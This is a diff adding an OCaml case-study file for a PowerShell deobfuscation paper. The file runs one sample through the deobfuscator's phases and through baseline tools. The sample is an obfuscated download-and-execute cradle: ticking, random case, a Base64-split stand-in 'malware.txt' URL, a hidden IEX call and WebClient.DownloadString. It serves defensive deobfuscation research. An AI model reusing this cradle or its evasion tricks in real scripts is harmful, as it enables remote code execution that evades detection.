@@ -1,0 +1,36 @@
+(** Fig 7 / Fig 8 — the paper's case study.
+
+    A script combining L1 (ticking, random case), L2 (string reordering) and
+    L3 (Base64, variable indirection, obfuscated IEX) obfuscation, shown
+    after each phase of Invoke-Deobfuscation and as processed by each
+    tool. *)
+
+let case_script =
+  "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
+   $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
+   $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
+   $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
+   .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"
+
+(** The staged view of Fig 7, via the engine's phase API. *)
+let phases () = Deobf.Engine.run_phases case_script
+
+(** Fig 8: each tool's final output on the case. *)
+let tool_outputs ?(tools = Baselines.All_tools.all) () =
+  List.map
+    (fun tool ->
+      (tool.Baselines.Tool.name,
+       (tool.Baselines.Tool.deobfuscate case_script).Baselines.Tool.result))
+    tools
+
+let print () =
+  Printf.printf "Case study (paper Fig 7): Invoke-Deobfuscation phases\n";
+  List.iter
+    (fun p ->
+      Printf.printf "--- %s ---\n%s\n" p.Deobf.Engine.phase
+        (String.trim p.Deobf.Engine.text))
+    (phases ());
+  Printf.printf "\nCase study (paper Fig 8): all tools\n";
+  List.iter
+    (fun (name, out) -> Printf.printf "--- %s ---\n%s\n" name (String.trim out))
+    (tool_outputs ())
